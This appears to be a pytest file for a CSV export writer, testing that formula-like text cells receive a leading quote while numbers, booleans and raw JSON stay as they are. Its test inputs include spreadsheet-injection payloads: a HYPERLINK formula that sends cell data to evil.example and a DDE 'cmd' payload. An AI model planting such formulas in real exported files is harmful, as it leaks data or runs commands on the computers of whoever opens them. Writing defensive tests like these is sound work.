"""CSV cells: text a spreadsheet would run as a formula is quoted; numbers and JSON stay as is."""

from __future__ import annotations

import csv
import dataclasses
import io

import orjson
import pytest
from tests.fixtures.events import EVENT_ROW_DEFAULTS

from caliper_store.query.formats import CsvWriter
from caliper_store.storage.search import EventRecord

RAW = '{"id":"urn:uuid:1","type":"ViewEvent","object":{"name":"=HYPERLINK(\\"x\\")"}}'


def record(**values: object) -> EventRecord:
    """An EventRecord from the fixtures' row defaults, with the fields these tests read."""
    fields = {
        field.name: EVENT_ROW_DEFAULTS.get(field.name) for field in dataclasses.fields(EventRecord)
    }
    fields |= {
        "seq": 1,
        "event_id": "urn:uuid:1",
        "actor_id": "urn:user:1",
        "object_id": "urn:object:1",
        "object_type": None,
        "event_time": "2024-01-01T00:00:00.000000Z",
        "received_at": "2024-01-01T00:00:01.000000Z",
        "raw": RAW,
    }
    return EventRecord(**(fields | values))  # type: ignore[arg-type]  # the dataclass's fields


def csv_rows(*records: EventRecord) -> list[dict[str, str]]:
    sink = io.BytesIO()
    writer = CsvWriter(sink, with_raw=True)
    writer.write(records)
    writer.close()
    return list(csv.DictReader(io.StringIO(sink.getvalue().decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(cell: str) -> None:
    (row,) = csv_rows(record(actor_external_id=cell, sensor=cell, group_id=cell))
    assert row["actor_external_id"] == "'" + cell
    assert row["sensor"] == "'" + cell
    assert row["group_id"] == "'" + cell


def test_only_text_cells_are_quoted_numbers_booleans_and_the_raw_json_stay_as_they_are() -> None:
    (row,) = csv_rows(record(api_key_id=-5, seq=-7, actor_external_id="-5", is_extension=True))
    assert (row["api_key_id"], row["seq"], row["actor_external_id"]) == ("-5", "-7", "'-5")
    assert (row["is_extension"], row["group_id"], row["event_id"]) == ("true", "", "urn:uuid:1")
    assert row["raw"] == RAW
    assert orjson.loads(row["raw"])["object"]["name"] == '=HYPERLINK("x")'
